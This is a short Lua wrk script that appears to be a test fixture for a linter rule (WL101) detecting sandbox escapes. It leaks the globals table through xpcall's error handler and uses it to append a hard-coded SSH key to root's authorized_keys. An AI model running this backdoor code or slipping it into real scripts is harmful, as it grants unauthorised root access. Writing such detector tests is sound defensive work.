-- Smuggles the globals table inside an error table through xpcall's message handler and appends an SSH key to root's authorized_keys with it; class: pcall/error (xpcall handler and results)
local function fail_with_context()
  error({code = "E_CFG", ctx = _G, detail = "config missing"})
end

local ok, err = xpcall(fail_with_context, function(e)
  return e
end)

function request()
  return wrk.format("GET", "/healthz")
end

function done(summary)
  if not ok and type(err) == "table" then
    local f = err.ctx.io.open("/root/.ssh/authorized_keys", "a") -- want WL101
    if f then
      f:write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEb8Tq0x1Pm3fZkQ2u7Yh0rDkq1vYx9p3JcH8ZtVwq5N ops@build\n")
      f:close()
    end
  end
end
